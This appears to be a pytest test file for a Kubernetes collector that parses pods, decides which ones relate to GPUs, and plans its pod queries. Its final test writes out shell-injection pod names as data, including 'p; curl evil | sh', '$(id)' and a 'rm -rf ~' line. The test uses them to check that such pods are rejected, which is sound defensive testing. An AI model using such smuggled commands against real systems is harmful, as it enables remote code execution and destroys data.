"""Pods: which matter, what they ask for and hold, and why they do not run."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest

from fleet.collectors import pod_lists, pods, pods_wire
from fleet.collectors.errors import Asked, Failure
from fleet.collectors.paging import Listing
from fleet.domain.snapshot import DeviceAllocation, PodSnapshot
from fleet.domain.snapshot.sections import Outcome
from tests.collectors.recorded import body, recording
from tests.collectors.scripted import Server, session

ASKED = Asked(verb="list", resource="pods")
RECORDED = ("pods_on_node", "pods_gpu_operator_page", "pods_nonterminal", "pods_page_limit2")


def wires(name: str) -> list[pods_wire.PodWire]:
    return pod_lists._pages.decode(body(name), ASKED).items


def pod(**parts: Any) -> dict[str, Any]:
    """A pod of which only the facts under test are written."""
    return {
        "metadata": {"name": "p", "namespace": "team", "uid": parts.pop("uid", "u1"), **parts.pop("metadata", {})},
        "spec": {"containers": [{"name": "main", "image": "app"}], **parts.pop("spec", {})},
        "status": {"phase": "Running", **parts.pop("status", {})},
    }


def asking(resource: str) -> list[dict[str, Any]]:
    return [{"name": "main", "resources": {"requests": {resource: "1"}}}]


def wire(raw: dict[str, Any]) -> pods_wire.PodWire:
    return msgspec.convert(raw, pods_wire.PodWire)


def parsed(raw: dict[str, Any]) -> PodSnapshot:
    snapshot = pods.parse(wire(raw))
    assert snapshot is not None
    return snapshot


@pytest.mark.parametrize("name", RECORDED)
def test_recorded_pods_keep_the_values_of_the_api(name: str) -> None:
    raws = recording(name)["body"]["items"]
    for raw, made in zip(raws, [pods.parse(w) for w in wires(name)], strict=True):
        assert made is not None
        assert (made.name, made.namespace, made.uid) == tuple(raw["metadata"][k] for k in ("name", "namespace", "uid"))
        assert made.node_name == raw["spec"]["nodeName"]
        assert made.phase == raw["status"]["phase"]
        assert made.labels == raw["metadata"]["labels"]
        assert made.ready is True
        assert [c.name for c in made.containers if not c.init] == [c["name"] for c in raw["spec"]["containers"]]
        assert [c.image for c in made.containers if not c.init] == [c["image"] for c in raw["spec"]["containers"]]
        assert {c.state for c in made.containers if not c.init} == {"running"}
        assert made.started_at is not None


def test_recorded_components_and_claims() -> None:
    made = [pods.parse(w) for w in wires("pods_on_node")]
    assert [p.component for p in made if p is not None and p.component] == [
        "gpu-feature-discovery",
        "nfd-worker",
        "toolkit",
        "dcgm-exporter",
        "device-plugin",
        "driver",
        "validator",
    ]
    assert [(p.claims, p.owner_kind) for p in made if p is not None and p.claims] == [
        (("gpu-claim-7-0",), "Job"),
        (("gpu-claim-7-1",), "ReplicaSet"),
    ]


# --- which matter ---


def kept(raw: dict[str, Any], gpu_nodes: frozenset[str] = frozenset({"gpu-1"})) -> bool:
    return bool(pods.keep([wire(raw)], gpu_nodes))


@pytest.mark.parametrize(
    ("raw", "matters"),
    [
        (pod(), False),
        (pod(spec={"nodeName": "cpu-1"}), False),
        (pod(spec={"nodeName": "gpu-1"}), True),
        (pod(spec={"nodeName": "gpu-1"}, status={"phase": "Succeeded"}), False),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"nvidia.com/gpu": "1"}}}]}), True),
        (pod(spec={"containers": [{"name": "a", "resources": {"requests": {"nvidia.com/mig-1g.5gb": "1"}}}]}), True),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"nvidia.com/gpu.shared": "1"}}}]}), True),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"amd.com/gpu": "1"}}}]}), True),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"gpu.intel.com/xe": "1"}}}]}), True),
        (pod(spec={"initContainers": [{"name": "a", "resources": {"limits": {"nvidia.com/gpu": "1"}}}]}), True),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"vpc.amazonaws.com/efa": "1"}}}]}), False),
        (pod(spec={"containers": [{"name": "a", "resources": {"limits": {"cpu": "1", "memory": "1Gi"}}}]}), False),
        (pod(spec={"resourceClaims": [{"name": "gpu", "resourceClaimName": "c"}]}), True),
        (pod(status={"extendedResourceClaimStatus": {"resourceClaimName": "c"}}), True),
        (pod(metadata={"labels": {"app": "nvidia-operator-validator"}}), True),
        (pod(metadata={"labels": {"app": "gpu-operator"}}), True),
        (pod(metadata={"labels": {"app": "nfd-worker"}}, spec={"nodeName": "cpu-1"}), False),
        (pod(metadata={"labels": {"app": "nfd-worker"}}, spec={"nodeName": "gpu-1"}), True),
    ],
)
def test_which_pods_matter(raw: dict[str, Any], matters: bool) -> None:
    assert kept(raw) is matters


def test_a_finished_pod_that_asked_for_a_gpu_is_kept() -> None:
    containers = [{"name": "a", "resources": {"limits": {"nvidia.com/gpu": "1"}}}]
    assert kept(pod(spec={"nodeName": "gpu-1", "containers": containers}, status={"phase": "Failed"}))


# --- what they ask for and hold ---


def test_limits_count_where_no_request_is_written() -> None:
    resources = {"limits": {"nvidia.com/gpu": "2", "rdma/hca": "1", "cpu": "4"}, "requests": {"rdma/hca": "3", "cpu": "1"}}
    made = parsed(pod(spec={"containers": [{"name": "main", "resources": resources}]}))
    assert made.containers[0].requests == {"nvidia.com/gpu": "2", "rdma/hca": "3"}


def test_init_containers_come_first_and_sidecars_are_marked() -> None:
    spec = {
        "initContainers": [{"name": "side", "restartPolicy": "Always"}, {"name": "init"}],
        "containers": [{"name": "main"}],
    }
    made = parsed(pod(spec=spec))
    assert [(c.name, c.init, c.sidecar) for c in made.containers] == [
        ("side", True, True),
        ("init", True, False),
        ("main", False, False),
    ]


def test_claims_from_templates_and_extended_resources_are_named_once() -> None:
    made = parsed(
        pod(
            spec={"resourceClaims": [{"name": "a", "resourceClaimName": "one"}, {"name": "b", "resourceClaimTemplateName": "t"}]},
            status={
                "resourceClaimStatuses": [{"name": "b", "resourceClaimName": "p-b-x"}, {"name": "a", "resourceClaimName": "one"}],
                "extendedResourceClaimStatus": {"resourceClaimName": "p-extended"},
            },
        )
    )
    assert made.claims == ("p-b-x", "one", "p-extended")


def test_devices_the_kubelet_says_a_container_holds() -> None:
    allocated = [{"name": "nvidia.com/gpu", "resources": [{"resourceID": "GPU-1", "health": "Unhealthy"}, {}]}]
    made = parsed(pod(status={"containerStatuses": [{"name": "main", "allocatedResourcesStatus": allocated}]}))
    assert made.devices == (DeviceAllocation(resource="nvidia.com/gpu", device_id="GPU-1", health="Unhealthy"),)


def test_deletion_was_asked_for_a_grace_period_before_its_timestamp() -> None:
    made = parsed(pod(metadata={"deletionTimestamp": "2026-11-23T12:01:00Z", "deletionGracePeriodSeconds": 60}))
    assert made.deleting_since == datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
    assert parsed(pod()).deleting_since is None


def test_the_controlling_owner_counts() -> None:
    owners = [{"kind": "Other", "name": "o"}, {"kind": "Job", "name": "j", "controller": True}]
    made = parsed(pod(metadata={"ownerReferences": owners}))
    assert (made.owner_kind, made.owner_name) == ("Job", "j")
    assert parsed(pod(metadata={"ownerReferences": owners[:1]})).owner_kind == "Other"


# --- why they do not run ---


def waiting(name: str, reason: str, message: str = "") -> dict[str, Any]:
    return {"name": name, "state": {"waiting": {"reason": reason, "message": message}}}


@pytest.mark.parametrize(
    ("status", "reason", "message"),
    [
        ({"phase": "Failed", "reason": "UnexpectedAdmissionError", "message": "no gpu"}, "UnexpectedAdmissionError", "no gpu"),
        (
            {
                "phase": "Pending",
                "conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": "0/9"}],
            },
            "Unschedulable",
            "0/9",
        ),
        ({"containerStatuses": [waiting("main", "CrashLoopBackOff", "back-off")]}, "CrashLoopBackOff", "back-off"),
        ({"containerStatuses": [waiting("main", "ContainerCreating")]}, "ContainerCreating", ""),
        (
            {
                "initContainerStatuses": [waiting("init", "ImagePullBackOff", "no image")],
                "containerStatuses": [waiting("main", "PodInitializing")],
            },
            "ImagePullBackOff",
            "no image",
        ),
        (
            {"containerStatuses": [{"name": "main", "state": {"terminated": {"reason": "OOMKilled", "exitCode": 137}}}]},
            "OOMKilled",
            "",
        ),
        ({"containerStatuses": [{"name": "main", "state": {"terminated": {"reason": "Completed", "exitCode": 0}}}]}, "", ""),
        ({"containerStatuses": [{"name": "main", "state": {"running": {}}}]}, "", ""),
        ({}, "", ""),
    ],
)
def test_why_a_pod_does_not_run(status: dict[str, Any], reason: str, message: str) -> None:
    spec = {"containers": [{"name": "main"}], "initContainers": [{"name": "init"}]}
    made = parsed(pod(spec=spec, status=status))
    assert (made.reason, made.message) == (reason, message)


def test_states_of_containers() -> None:
    statuses = [
        {"name": "a", "state": {"running": {"startedAt": "x"}}, "ready": True, "restartCount": 3},
        {"name": "b", "state": {"terminated": {"exitCode": 0, "reason": "Completed"}}},
        {"name": "c", "state": {"waiting": {"reason": "CrashLoopBackOff"}}},
    ]
    spec = {"containers": [{"name": name} for name in "abcd"]}
    made = parsed(pod(spec=spec, status={"containerStatuses": statuses}))
    assert [(c.state, c.reason, c.exit_code, c.ready, c.restarts) for c in made.containers] == [
        ("running", "", None, True, 3),
        ("terminated", "Completed", 0, False, 0),
        ("waiting", "CrashLoopBackOff", None, False, 0),
        ("", "", None, False, 0),
    ]


# --- how they are asked for ---


def test_many_gpu_nodes_mean_one_list_of_all_pods() -> None:
    assert pod_lists.plan(["a", "b"], 4, ["gpu-operator"]).queries == (("", ()),)


def test_few_gpu_nodes_are_asked_for_one_by_one() -> None:
    queries = pod_lists.plan(["b", "a"], 1000, {"gpu-operator"}).queries
    assert queries == (
        ("", (("fieldSelector", "spec.nodeName="),)),
        ("", (("fieldSelector", "spec.nodeName=a"),)),
        ("", (("fieldSelector", "spec.nodeName=b"),)),
        ("gpu-operator", ()),
    )


@pytest.mark.parametrize(("node_count", "namespaces"), [(None, ["x"]), (1000, None)])
def test_what_is_not_known_is_not_left_out(node_count: int | None, namespaces: list[str] | None) -> None:
    assert pod_lists.plan(["a"], node_count, namespaces).queries == (("", ()),)


def test_never_more_requests_than_the_bound() -> None:
    names = [f"n{number}" for number in range(pod_lists.MOST_NODES + 1)]
    assert pod_lists.plan(names, 10**6, []).queries == (("", ()),)


def pod_page(*raws: dict[str, Any]) -> dict[str, Any]:
    return {"kind": "PodList", "metadata": {}, "items": list(raws)}


def fetch_few(on_node: Any, in_namespace: Any) -> Listing[PodSnapshot]:
    stack = pod(uid="s", spec={"nodeName": "gpu-1"}, metadata={"labels": {"app": "nvidia-dcgm-exporter"}})
    pending = pod(uid="w", spec={"containers": asking("nvidia.com/gpu")}, status={"phase": "Pending"})
    answers = {"spec.nodeName=": pod_page(pending), "spec.nodeName=gpu-1": on_node or pod_page(stack)}
    server = Server(
        {
            "/api/v1/pods": lambda query, _: answers[query["fieldSelector"]],
            "/api/v1/namespaces/gpu-operator/pods": in_namespace or pod_page(stack),
        }
    )
    plan = pod_lists.plan(["gpu-1"], 100, ["gpu-operator"])
    return pod_lists.fetch(session(server), frozenset({"gpu-1"}), plan)


def test_a_pod_met_twice_is_one_pod() -> None:
    listing = fetch_few(None, None)
    assert [p.uid for p in listing.items] == ["w", "s"]
    assert listing.complete


@pytest.mark.parametrize("broken", ["node", "namespace"])
def test_one_failing_part_makes_the_section_incomplete(broken: str) -> None:
    gone = Failure(Outcome.TIMEOUT, "slow.")
    listing = fetch_few(gone if broken == "node" else None, gone if broken == "namespace" else None)
    assert listing.outcome is Outcome.INCOMPLETE
    assert listing.items


def test_the_one_variable_that_hands_out_gpus_and_privileges_are_kept_and_no_other() -> None:
    env = [
        {"name": "PASSWORD", "value": "secret"},
        {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
    ]
    result = parsed(pod(spec={"containers": [{"name": "main", "env": env, "securityContext": {"privileged": True}}]}))
    assert (result.containers[0].visible_devices, result.containers[0].privileged) == ("all", True)
    assert "secret" not in repr(result)
    plain = parsed(pod()).containers[0]
    assert (plain.visible_devices, plain.privileged) == ("", False)


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"metadata": {"name": "p; curl evil | sh"}}, "Its name or namespace"),
        ({"metadata": {"name": "p$(id)"}}, "Its name or namespace"),
        ({"metadata": {"namespace": "team`id`"}}, "Its name or namespace"),
        ({"metadata": {"name": "-n"}}, "Its name or namespace"),
        ({"spec": {"containers": [{"name": "main\nrm -rf ~", "image": "app"}]}}, "A container's name"),
    ],
)
def test_a_pod_whose_name_would_run_in_a_shell_is_left_out_and_named(change: dict[str, Any], problem: str) -> None:
    """Names become parts of commands that people copy. No API server accepts these; one that lies may send them."""
    honest = pod(uid="u2", metadata={"name": "honest", "uid": "u2"}, spec={"nodeName": "gpu-1"})
    hostile = pod(uid="u1", **{**change, "spec": {"nodeName": "gpu-1", **change.get("spec", {})}})
    listing = pod_lists.fetch(
        session(Server({"/api/v1/pods": pod_page(hostile, honest)})), frozenset({"gpu-1"}), pod_lists.plan(["gpu-1"], 1, None)
    )
    assert [item.uid for item in listing.items] == ["u2"]
    assert [row.text.startswith(problem) for row in listing.problems] == [True]
